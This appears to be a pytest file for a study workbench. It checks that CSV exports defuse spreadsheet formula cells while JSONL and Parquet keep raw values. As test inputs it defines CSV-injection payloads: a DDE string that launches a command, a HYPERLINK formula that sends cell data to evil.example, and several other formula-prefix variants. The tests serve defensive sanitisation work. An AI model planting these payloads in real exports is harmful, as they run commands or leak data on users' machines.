"""Every CSV the workbench writes neutralises cells a spreadsheet would evaluate; Parquet and JSONL keep the raw
values (a rater comment and a system name as the attack, exported as the study tables and the results zip)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pandas as pd
from PIL import Image

from workbench.csvsafe import FORMULA_START
from workbench.export import export_study
from workbench.ui.results import csv_bundle
from workbench.ui.results_tables import tables

EVIL_SYSTEM = "=cmd|' /C calc'!A0"
EVIL_COMMENT = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
OTHERS = ("+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\r=CR", "x\r=cmd|' /C calc'!A0")


def _study(workbench) -> str:
    workbench.create_study("csv", kind="preference", k=1)
    outputs = {EVIL_SYSTEM: Image.new("RGB", (16, 16), (250, 0, 0)), "plain": Image.new("RGB", (16, 16), 0)}
    workbench.add_item("csv", Image.new("RGB", (16, 16), 9), "make it red", outputs=outputs, category="@cat")
    workbench.add_rater("r1")
    imp = workbench.next_item("csv", "r1")
    workbench.submit_vote(imp["impression_id"], "r1", "A", idempotency_key="k1", comment=EVIL_COMMENT)
    return "csv"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _dangerous(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would evaluate (numbers such as -1.5 are data)."""
    return [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]


def test_study_export_csv_is_neutralised_and_other_formats_raw(workbench, tmp_path: Path) -> None:
    files = export_study(workbench, _study(workbench), tmp_path, formats=("csv", "jsonl", "parquet"))
    cells = [c for f in files if f.suffix == ".csv" for c in _cells(f.read_bytes().decode("utf-8"))]
    assert _dangerous(cells) == []
    assert "'" + EVIL_COMMENT in cells and "'" + EVIL_SYSTEM in cells
    votes_jsonl = [json.loads(line) for line in (tmp_path / "vote_history.jsonl").read_text().splitlines()]
    assert votes_jsonl[0]["comment"] == EVIL_COMMENT
    impressions = pd.read_parquet(tmp_path / "impressions.parquet")
    assert EVIL_SYSTEM in set(impressions["left_system"]) | set(impressions["right_system"])


def test_results_zip_is_neutralised(workbench) -> None:
    stats = workbench.stats(_study(workbench))
    with zipfile.ZipFile(csv_bundle(stats, tables(stats, "preference"), "csv")) as zf:
        cells = [c for name in zf.namelist() for c in _cells(zf.read(name).decode("utf-8"))]
    assert _dangerous(cells) == [] and "'" + EVIL_SYSTEM in cells


def test_every_formula_start_is_neutralised() -> None:
    from workbench.csvsafe import csv_text

    frame = pd.DataFrame({"text": list(OTHERS), "number": [-1.5, 2, -3, 4, 5, 6]})
    cells = _cells(csv_text(frame, index=False))
    assert _dangerous(cells) == [] and "-1.5" in cells  # numbers stay numbers
